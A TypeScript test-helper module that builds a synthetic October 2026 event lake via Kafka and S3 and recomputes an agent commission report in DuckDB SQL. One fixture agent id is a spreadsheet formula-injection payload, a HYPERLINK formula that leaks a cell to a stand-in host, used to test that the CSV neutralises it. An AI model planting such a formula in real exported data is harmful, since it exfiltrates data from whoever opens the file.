import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Kafka } from 'kafkajs';
import type { CoreSettings } from '../../processors/core/config/core-settings.js';
import { createS3Client } from '../../processors/core/s3/client.js';
import { download, listKeys } from '../../processors/core/s3/objects.js';
import { startExport } from '../../processors/export/export.js';
import { AgentEventProducer, EVENT_TYPES, lakePipelineFile as sharedLakePipelineFile, type AgentEvent, type EventType } from './agent-events.js';
import { buildDist, ROOT } from './build.js';
import { ParquetReader } from './parquet-reader.js';
import { seededRandom } from './random.js';

/**
 * The report tests' lake, built the realistic way: DOMAIN-shaped Avro events (the
 * agent-event contract, Confluent wire format through the registry) on a topic of the
 * test's own, exported by the real export runner with the shipped lake.yaml (topic, DLQ
 * and key prefix swapped for the test's), and read back by DuckDB for an independent
 * computation of the report.
 */

export { AgentEventProducer, EVENT_TYPES, type EventType };

/** A month's event (source agent_app). */
export type MonthEvent = AgentEvent;

/** ISO 8601 (UTC, millisecond precision) plus extra microseconds -> epoch microseconds. */
export function micros(iso: string, extraMicros = 0n): bigint {
  const ms = Date.parse(iso);
  if (Number.isNaN(ms)) throw new Error(`not a timestamp: ${iso}`);
  return BigInt(ms) * 1000n + extraMicros;
}

/** Agents with a known, hand-computed outcome (docs/domain.md rules applied on paper). */
export const SPECIAL = {
  onlyOnboardings: 'agent-only-onboardings',
  big53: 'agent-sum-past-2^53',
  big63: 'agent-sum-past-2^63',
  withdrawalsExceed: 'agent-withdrawals-exceed-deposits',
  tierExact: 'agent-tier-exactly-at-threshold',
  tierBelow: 'agent-tier-one-below',
  tierByLate: 'agent-tier-crossed-by-late-events',
  tieEven: 'agent-tie-0.5',
  tieOdd: 'agent-tie-1.5',
  tierTieEven: 'agent-tier-tie-62500.5',
  tierTieOdd: 'agent-tier-tie-62501.5',
  boundaries: 'agent-month-boundaries',
  outsideMonth: 'agent-outside-the-month',
  csvQuoted: 'agent-"quoted, with comma"',
  fullwidth: 'agent-\uFF5E',
  astral: 'agent-\u{1F600}',
  upper: 'Zeta-agent',
  /** A spreadsheet formula as an agent id: the CSV must neutralise it (DOMAIN.md "Report"). */
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
} as const;

/**
 * What the report must say for the special agents of 2026-10, computed by hand:
 * [events, customers_onboarded, D, W, I, net, commission].
 */
export const HAND_COMPUTED: Record<string, [number, number, string, string, string, string, string]> = {
  [SPECIAL.onlyOnboardings]: [5, 3, '0', '0', '0', '0', '7500'], // A, B, A, C, B: N = 3 -> 3 x 2500
  [SPECIAL.big53]: [2, 0, '9007199254740996', '0', '0', '9007199254740996', '56294995342131'], // (2^53+4) x 50 x 5/4 / 10000 = ...131.225
  [SPECIAL.big63]: [3 + 1 + 1, 0, '13835058055282163711', '1152921504606846976', '2305843009213693957', '14987979559889010692', '108086391056891904'],
  [SPECIAL.withdrawalsExceed]: [3, 0, '50000', '80000', '10000', '-20000', '100'], // max(0, D-W) = 0; I x 1% = 100
  [SPECIAL.tierExact]: [1, 0, '10000000', '0', '0', '10000000', '62500'], // >= threshold: 50,000 x 5/4
  [SPECIAL.tierBelow]: [2, 0, '10000100', '101', '0', '9999999', '50000'], // 49,999.995 -> 50,000, no tier
  [SPECIAL.tierByLate]: [2, 0, '10000000', '0', '0', '10000000', '62500'], // 9,000,000 on time + 1,000,000 late
  [SPECIAL.tieEven]: [1, 0, '100', '0', '0', '100', '0'], // 0.5 -> 0
  [SPECIAL.tieOdd]: [1, 0, '300', '0', '0', '300', '2'], // 1.5 -> 2
  [SPECIAL.tierTieEven]: [1, 0, '10000080', '0', '0', '10000080', '62500'], // 62,500.5 -> 62,500
  [SPECIAL.tierTieOdd]: [1, 0, '10000240', '0', '0', '10000240', '62502'], // 62,501.5 -> 62,502
  [SPECIAL.boundaries]: [2, 0, '110', '0', '0', '110', '1'], // 10 at 10-01T00:00:00.000000, 100 at 10-31T23:59:59.999999: 0.55 -> 1
};

export interface GeneratedMonth {
  month: string;
  /** Produced before the first export run (with a few repeats inside it). */
  phase1: MonthEvent[];
  /** Produced after the first export run stopped: the rest, late events and re-sent phase-1 events. */
  phase2: MonthEvent[];
  /** Every distinct event (by id). */
  distinct: MonthEvent[];
  /** Copies beyond the first of an id, over both phases. */
  repeats: number;
  /** Events of the month received long after it (phase 2; 10 more late ones belong to September and November). */
  late: number;
}

/**
 * A generated October 2026 around `bulk` random events of 30 agents (with repeated
 * onboardings of the same customers, some events in September and November), plus the
 * special agents above, duplicates within and across export runs, and late events.
 */
export function generateMonth(run: string, bulk = 2400): GeneratedMonth {
  const rng = seededRandom(Number.parseInt(run.slice(0, 8), 16));
  let n = 0;
  const id = () => `${run.slice(0, 8)}-0000-4000-8000-${(n++).toString(16).padStart(12, '0')}`;
  const event = (type: EventType, agentId: string, customerId: string, amount: bigint | null, occurredAtMicros: bigint, receivedAfterMicros = 1_500_000n): MonthEvent => ({
    eventId: id(),
    type,
    agentId,
    customerId,
    amount: type === 'customer_onboarded' ? null : amount,
    occurredAtMicros,
    receivedAtMicros: occurredAtMicros + receivedAfterMicros,
    source: 'agent_app',
  });
  const oct = (day: number, hour = 12) => micros(`2026-10-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:00:00.000Z`, BigInt(day * 37));
  const phase1: MonthEvent[] = [];
  const phase2: MonthEvent[] = [];

  // The bulk: 30 agents, random types, a customer pool small enough that onboardings repeat.
  const monthStart = Date.UTC(2026, 9, 1);
  const monthMs = Date.UTC(2026, 10, 1) - monthStart;
  for (let k = 0; k < bulk; k++) {
    const r = rng();
    const type: EventType = r < 0.25 ? 'customer_onboarded' : r < 0.6 ? 'deposit_made' : r < 0.8 ? 'withdrawal_made' : 'investment_made';
    const agent = `agent-${String(Math.floor(rng() * 30)).padStart(2, '0')}`;
    const customer = `customer-${Math.floor(rng() * 400)}`;
    const amount = BigInt(100 + Math.floor(rng() * 5_000_000));
    const where = rng();
    // 3 % in the last days of September, 3 % in the first days of November: not in the report.
    const ms =
      where < 0.03
        ? Date.UTC(2026, 8, 25) + Math.floor(rng() * 6 * 86_400_000)
        : where < 0.06
          ? Date.UTC(2026, 10, 1) + Math.floor(rng() * 5 * 86_400_000)
          : monthStart + Math.floor(rng() * monthMs);
    const e = event(type, agent, customer, amount, BigInt(ms) * 1000n + BigInt(Math.floor(rng() * 1000)), BigInt(1_000_000 + Math.floor(rng() * 120_000_000)));
    (k < bulk * 0.6 ? phase1 : phase2).push(e);
  }

  // Late events: they happened in the month but were received in December, after the first export run.
  const lateEvents: MonthEvent[] = [];
  for (let k = 0; k < 40; k++) {
    const agent = `agent-${String(k % 30).padStart(2, '0')}`;
    const type = EVENT_TYPES[k % 4]!;
    const occurred = oct(1 + (k % 31), k % 24);
    lateEvents.push(event(type, agent, `customer-late-${k % 13}`, BigInt(1000 + k * 7919), occurred, micros('2026-12-10T09:00:00.000Z') - occurred));
  }
  // Late ones of the months around: received in November / December, still not October's.
  for (let k = 0; k < 10; k++) {
    const agent = `agent-${String(k).padStart(2, '0')}`;
    const occurred = k < 5 ? micros(`2026-09-${20 + k}T08:00:00.000Z`) : micros(`2026-11-0${k - 4}T08:00:00.000Z`);
    lateEvents.push(event(EVENT_TYPES[k % 4]!, agent, `customer-${k}`, 5_000_000n + BigInt(k), occurred, micros('2026-12-11T09:00:00.000Z') - occurred));
  }
  phase2.push(...lateEvents);

  // The special agents (hand-computed outcomes in HAND_COMPUTED).
  const s = SPECIAL;
  const special1: MonthEvent[] = [
    event('customer_onboarded', s.onlyOnboardings, 'customer-A', null, oct(2)),
    event('customer_onboarded', s.onlyOnboardings, 'customer-B', null, oct(3)),
    event('customer_onboarded', s.onlyOnboardings, 'customer-A', null, oct(9)), // the same customer again
    event('customer_onboarded', s.onlyOnboardings, 'customer-C', null, oct(15)),
    event('customer_onboarded', s.onlyOnboardings, 'customer-B', null, oct(30)),
    event('customer_onboarded', s.onlyOnboardings, 'customer-D', null, micros('2026-09-30T22:00:00.000Z')), // September
    event('deposit_made', s.big53, 'customer-1', 2n ** 52n + 1n, oct(4)),
    event('deposit_made', s.big53, 'customer-2', 2n ** 52n + 3n, oct(5)),
    event('deposit_made', s.big63, 'customer-1', 2n ** 62n, oct(6)),
    event('deposit_made', s.big63, 'customer-2', 2n ** 62n, oct(7)),
    event('deposit_made', s.big63, 'customer-3', 2n ** 62n - 1n, oct(8)),
    event('withdrawal_made', s.big63, 'customer-1', 2n ** 60n, oct(9)),
    event('investment_made', s.big63, 'customer-2', 2n ** 61n + 5n, oct(10)),
    event('deposit_made', s.withdrawalsExceed, 'customer-1', 50_000n, oct(11)),
    event('withdrawal_made', s.withdrawalsExceed, 'customer-1', 80_000n, oct(12)),
    event('investment_made', s.withdrawalsExceed, 'customer-1', 10_000n, oct(13)),
    event('deposit_made', s.tierExact, 'customer-1', 10_000_000n, oct(14)),
    event('deposit_made', s.tierBelow, 'customer-1', 10_000_100n, oct(15)),
    event('withdrawal_made', s.tierBelow, 'customer-1', 101n, oct(16)),
    event('deposit_made', s.tierByLate, 'customer-1', 9_000_000n, oct(17)),
    event('deposit_made', s.tieEven, 'customer-1', 100n, oct(18)),
    event('deposit_made', s.tieOdd, 'customer-1', 300n, oct(19)),
    event('deposit_made', s.tierTieEven, 'customer-1', 10_000_080n, oct(20)),
    event('deposit_made', s.tierTieOdd, 'customer-1', 10_000_240n, oct(21)),
    event('deposit_made', s.boundaries, 'customer-1', 1n, micros('2026-09-30T23:59:59.999Z', 999n)),
    event('deposit_made', s.boundaries, 'customer-1', 10n, micros('2026-10-01T00:00:00.000Z')),
    event('deposit_made', s.boundaries, 'customer-1', 100n, micros('2026-10-31T23:59:59.999Z', 999n)),
    event('deposit_made', s.boundaries, 'customer-1', 1000n, micros('2026-11-01T00:00:00.000Z')),
    event('deposit_made', s.outsideMonth, 'customer-1', 123_456n, micros('2026-09-15T10:00:00.000Z')),
    event('customer_onboarded', s.outsideMonth, 'customer-2', null, micros('2026-11-15T10:00:00.000Z')),
    event('deposit_made', s.csvQuoted, 'customer-1', 4321n, oct(22)),
    event('customer_onboarded', s.fullwidth, 'customer-1', null, oct(23)),
    event('investment_made', s.astral, 'customer-1', 777_777n, oct(24)),
    event('withdrawal_made', s.upper, 'customer-1', 5n, oct(25)),
    event('deposit_made', s.formula, 'customer-1', 1500n, oct(26)),
  ];
  phase1.push(...special1);
  // Crossing the tier with an event that happened in October and arrived in December.
  phase2.push(event('deposit_made', s.tierByLate, 'customer-2', 1_000_000n, oct(26), micros('2026-12-12T00:00:00.000Z') - oct(26)));

  const distinct = [...phase1, ...phase2];
  // Duplicates: 30 repeats inside phase 1 (the export's dedupe may drop them), 150 phase-1
  // events re-sent in phase 2 (a retry after a restart: both copies land in the lake),
  // every special event among them, and 20 repeats inside phase 2.
  const repeats1 = pick(rng, phase1, 30);
  const resent = [...special1, ...pick(rng, phase1.slice(0, phase1.length - special1.length), 150 - special1.length)];
  const repeats2 = pick(rng, phase2, 20);
  const p1 = shuffle(rng, [...phase1, ...repeats1]);
  const p2 = shuffle(rng, [...phase2, ...resent, ...repeats2]);
  return { month: '2026-10', phase1: p1, phase2: p2, distinct, repeats: repeats1.length + resent.length + repeats2.length, late: 40 + 1 };
}

function pick<T>(rng: () => number, from: readonly T[], count: number): T[] {
  const out: T[] = [];
  for (let i = 0; i < count; i++) out.push(from[Math.floor(rng() * from.length)]!);
  return out;
}

function shuffle<T>(rng: () => number, items: T[]): T[] {
  for (let i = items.length - 1; i > 0; i--) {
    const j = Math.floor(rng() * (i + 1));
    [items[i], items[j]] = [items[j]!, items[i]!];
  }
  return items;
}

export interface AgentTruth {
  events: number;
  customers: Set<string>;
  d: bigint;
  w: bigint;
  i: bigint;
}

/** What was produced, per agent of the month (distinct ids, UTC month of occurred_at): the ground truth the lake must hold. */
export function producedTruth(events: readonly MonthEvent[], month: string): Map<string, AgentTruth> {
  const [y, m] = month.split('-').map(Number) as [number, number];
  const from = BigInt(Date.UTC(y, m - 1, 1)) * 1000n;
  const to = BigInt(Date.UTC(y, m, 1)) * 1000n;
  const seen = new Set<string>();
  const agents = new Map<string, AgentTruth>();
  for (const e of events) {
    if (seen.has(e.eventId) || e.occurredAtMicros < from || e.occurredAtMicros >= to) continue;
    seen.add(e.eventId);
    let a = agents.get(e.agentId);
    if (!a) agents.set(e.agentId, (a = { events: 0, customers: new Set(), d: 0n, w: 0n, i: 0n }));
    a.events++;
    if (e.type === 'customer_onboarded') a.customers.add(e.customerId);
    else if (e.type === 'deposit_made') a.d += e.amount!;
    else if (e.type === 'withdrawal_made') a.w += e.amount!;
    else a.i += e.amount!;
  }
  return agents;
}

export interface LakeExport {
  topic: string;
  dlqTopic: string;
  /** Key prefix of the lake, ending with `/` (replaces the shipped `lake/agent_events/`). */
  prefix: string;
  group: string;
}

/** The shipped connectors/exports/lake.yaml with the test's topic, DLQ topic and key prefix, and a free health port. */
export function lakePipelineFile(x: LakeExport): string {
  return sharedLakePipelineFile({ topic: x.topic, dlq: x.dlqTopic, prefix: x.prefix, period: '1s', anyHttpPort: true });
}

/**
 * Runs the real export (startExport, in this process) over the topic until its group has
 * committed every partition's end, then stops it gracefully.
 */
export async function exportUntilCommitted(kafka: Kafka, x: LakeExport, timeoutMs = 60_000): Promise<void> {
  const file = lakePipelineFile(x);
  const running = await startExport({ files: [file], env: { ...process.env, SLUICE_LOG_LEVEL: process.env.SLUICE_LOG_LEVEL ?? 'warn', SLUICE_LAKE_CONSUMER_GROUP: x.group } });
  const admin = kafka.admin();
  await admin.connect();
  try {
    const ends = await admin.fetchTopicOffsets(x.topic);
    const deadline = Date.now() + timeoutMs;
    let behind = '';
    for (;;) {
      const failure = running.runners.find((r) => r.failure)?.failure;
      if (failure) throw new Error(`the export failed: ${failure.message}`);
      const [committed] = await admin.fetchOffsets({ groupId: x.group, topics: [x.topic] });
      const at = new Map((committed?.partitions ?? []).map((p) => [p.partition, BigInt(p.offset)]));
      const lagging = ends.filter((e) => BigInt(e.high) > 0n && (at.get(e.partition) ?? -1n) < BigInt(e.high));
      if (lagging.length === 0) break;
      behind = lagging.map((e) => `partition ${e.partition} committed ${at.get(e.partition) ?? 'nothing'} of ${e.high}`).join(', ');
      if (Date.now() > deadline) throw new Error(`the export of ${x.topic} did not commit its end within ${timeoutMs} ms: ${behind}`);
      await new Promise((r) => setTimeout(r, 250));
    }
  } finally {
    await admin.disconnect();
    await running.stop();
  }
}

/** Every Parquet object under a prefix, downloaded into a DuckDB reader. */
export class LakeSql {
  private constructor(
    readonly reader: ParquetReader,
    readonly keys: string[],
    private readonly paths: string[],
  ) {}

  static async download(settings: CoreSettings, prefix: string): Promise<LakeSql> {
    const s3 = createS3Client(settings.s3);
    const keys = (await listKeys(s3, settings.s3.bucket, prefix)).filter((k) => k.endsWith('.parquet'));
    if (keys.length === 0) throw new Error(`no Parquet objects under s3://${settings.s3.bucket}/${prefix}`);
    const reader = await ParquetReader.open();
    const paths: string[] = [];
    for (const key of keys) {
      reader.table(await download(s3, settings.s3.bucket, key));
      paths.push(reader.lastPath);
    }
    s3.destroy();
    return new LakeSql(reader, keys, paths);
  }

  /** `read_parquet([...every file...])`. */
  get table(): string {
    return `read_parquet([${this.paths.map((p) => `'${p}'`).join(', ')}])`;
  }

  query(sql: string) {
    return this.reader.query(sql);
  }

  /** The report, independently, over every lake file (see commissionReportSql). */
  async report(month: string, currency = 'USD', agentIds?: readonly string[]): Promise<string[][]> {
    return reportRows(await this.query(commissionReportSql(this.table, month, agentIds)), month, currency);
  }

  close(): void {
    this.reader.close();
  }
}

/**
 * The report, independently: DuckDB SQL over `table` (every lake file; all months: the month
 * is taken from occurred_at in UTC, not from the partition names), each event_id once,
 * HUGEINT sums, docs/domain.md's commission in exact integer arithmetic with half-to-even
 * rounding written out in SQL, ordered by agent_id (DuckDB compares VARCHAR by UTF-8
 * bytes: code-point order). reportRows turns its rows into the CSV's cells.
 */
export function commissionReportSql(table: string, month: string, agentIds?: readonly string[]): string {
  const [y, m] = month.split('-').map(Number) as [number, number];
  const from = BigInt(Date.UTC(y, m - 1, 1)) * 1000n;
  const to = BigInt(Date.UTC(y, m, 1)) * 1000n;
  const only = agentIds ? `AND agent_id IN (${agentIds.map(sqlText).join(', ')})` : '';
  return `
    WITH month_rows AS (
      SELECT event_id, event_type, agent_id, customer_id, amount_minor
      FROM ${table}
      WHERE epoch_us(occurred_at) >= ${from} AND epoch_us(occurred_at) < ${to}
        AND event_type IN ('customer_onboarded', 'deposit_made', 'withdrawal_made', 'investment_made')
        ${only}
    ),
    events AS (
      -- each event_id once (its copies are the same event)
      SELECT event_id, min(event_type) AS event_type, min(agent_id) AS agent_id, min(customer_id) AS customer_id, min(amount_minor) AS amount_minor
      FROM month_rows GROUP BY event_id
    ),
    per_agent AS (
      SELECT agent_id,
        count(*) AS events,
        count(DISTINCT customer_id) FILTER (WHERE event_type = 'customer_onboarded') AS n,
        coalesce(sum(amount_minor::HUGEINT) FILTER (WHERE event_type = 'deposit_made'), 0::HUGEINT) AS d,
        coalesce(sum(amount_minor::HUGEINT) FILTER (WHERE event_type = 'withdrawal_made'), 0::HUGEINT) AS w,
        coalesce(sum(amount_minor::HUGEINT) FILTER (WHERE event_type = 'investment_made'), 0::HUGEINT) AS i
      FROM events GROUP BY agent_id
    ),
    fraction AS (
      -- variable = (max(0, D - W) x 50 + I x 100) / 10000, x 5/4 when D - W + I >= 10,000,000
      SELECT *, d - w + i AS net,
        ((CASE WHEN d - w > 0 THEN d - w ELSE 0::HUGEINT END) * 50 + i * 100) * (CASE WHEN d - w + i >= 10000000 THEN 5 ELSE 1 END)::HUGEINT AS num,
        (CASE WHEN d - w + i >= 10000000 THEN 10000 * 4 ELSE 10000 END)::HUGEINT AS den
      FROM per_agent
    ),
    divided AS (
      SELECT *, num // den AS q, num % den AS r FROM fraction
    )
    SELECT agent_id,
      events::VARCHAR AS events, n::VARCHAR AS n, d::VARCHAR AS d, w::VARCHAR AS w, i::VARCHAR AS i, net::VARCHAR AS net,
      (n::HUGEINT * 2500 + q + CASE WHEN 2 * r > den OR (2 * r = den AND q % 2 = 1) THEN 1 ELSE 0 END)::VARCHAR AS commission
    FROM divided
    ORDER BY agent_id
  `;
}

/** The rows of commissionReportSql as the report CSV's cells. */
export function reportRows(rows: Record<string, unknown>[], month: string, currency = 'USD'): string[][] {
  return rows.map((r) => [String(r.agent_id), month, String(r.events), String(r.n), String(r.d), String(r.w), String(r.i), String(r.net), String(r.commission), currency]);
}

function sqlText(text: string): string {
  return `'${text.replace(/'/g, "''")}'`;
}

export const REPORT_HEADER = ['agent_id', 'month', 'events', 'customers_onboarded', 'deposits_minor', 'withdrawals_minor', 'investments_minor', 'net_inflow_minor', 'commission_minor', 'currency'];

/** RFC 4180, strictly: quoted fields with doubled quotes, records ended by \n (or \r\n). */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i++;
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += c === '\r' ? 2 : 1;
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('CSV ends inside a quoted field');
  if (field !== '' || record.length > 0) throw new Error('CSV does not end with a line break');
  return records;
}

/**
 * dist/<entry>, compiled from the current sources: `npm test` builds before the tests run,
 * so this usually only checks that every processors/**.ts has a newer .js in dist/; a
 * missing or stale one rebuilds (buildDist).
 */
export function currentDist(entry: string): string {
  const stale = (dir: string): boolean =>
    readdirSync(join(ROOT, dir), { withFileTypes: true }).some((d) => {
      const path = `${dir}/${d.name}`;
      if (d.isDirectory()) return stale(path);
      if (!d.name.endsWith('.ts') || d.name.endsWith('.d.ts') || d.name.endsWith('.test.ts')) return false;
      const out = join(ROOT, 'dist', path.replace(/\.ts$/, '.js'));
      return !existsSync(out) || statSync(out).mtimeMs < statSync(join(ROOT, path)).mtimeMs;
    });
  return stale('processors') ? buildDist(entry) : join(ROOT, 'dist', entry);
}
